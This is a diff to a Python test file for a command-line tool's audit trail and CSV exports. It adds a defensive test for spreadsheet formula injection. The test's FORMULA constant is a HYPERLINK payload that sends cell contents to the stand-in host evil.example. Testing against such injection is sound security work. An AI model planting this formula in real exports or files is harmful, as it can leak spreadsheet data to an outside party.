@@ -106,7 +106,7 @@ def test_audit_verify_detects_an_edited_a_removed_and_a_cut_off_record(store) ->
         assert run(store, "users", "create", name, "-r", "admin").returncode == 0
     intact = run(store, "audit", "verify")
     assert intact.returncode == 0, intact.stdout + intact.stderr
-    head = re.search(r"hash ([0-9a-f]{64})", intact.stdout).group(1)
+    head = re.search(r"hash (k\d{3}[0-9a-f]{60})", intact.stdout).group(1)
     assert re.search(r"intact: 3 records", intact.stdout)
     execute = sql(store)
 
@@ -128,7 +128,8 @@ def test_audit_verify_detects_an_edited_a_removed_and_a_cut_off_record(store) ->
     execute("delete from audit_records")
     execute("update audit_head set seq = 0, hash = '" + "0" * 64 + "'")
     emptied = run(fresh_env, "audit", "verify", "--expect-head", head)
-    assert emptied.returncode == 1 and "no longer holds" in emptied.stdout
+    # The checkpoints the earlier runs published catch it, before the operator's own hash.
+    assert emptied.returncode == 1 and "removed from the end" in emptied.stdout
 
 
 def test_audit_verify_detects_records_cut_off_the_end(store) -> None:
@@ -148,3 +149,25 @@ def test_audit_export_writes_the_trail_as_csv(store) -> None:
     rows = list(csv.DictReader(io.StringIO(exported.stdout)))
     assert [r["action"] for r in rows] == ["user.create"]
     assert rows[0]["actor_type"] == "system" and len(rows[0]["hash"]) == 64
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+
+
+def test_csv_exports_write_formula_cells_as_text(store) -> None:
+    assert run(store, "accounts", "create", "Clinic").returncode == 0
+    created = run(store, "users", "create", "ana", "-r", "admin", "--full-name", FORMULA)
+    assert created.returncode == 0, created.stdout + created.stderr
+    # However a formula got into the trail, the export writes it as text.
+    sql(store)("update audit_records set reason = '@SUM(1+1)' where seq = 1")
+    for command in (("users", "export"), ("audit", "export")):
+        exported = run(store, *command)
+        assert exported.returncode == 0, exported.stdout + exported.stderr
+        cells = [c for row in csv.reader(io.StringIO(exported.stdout)) for c in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    people = list(csv.DictReader(io.StringIO(run(store, "users", "export").stdout)))
+    assert [(p["username"], p["full_name"], p["roles"]) for p in people] == [
+        ("ana", "'" + FORMULA, "admin")
+    ]
+    trail = list(csv.DictReader(io.StringIO(run(store, "audit", "export").stdout)))
+    assert trail[0]["reason"] == "'@SUM(1+1)"
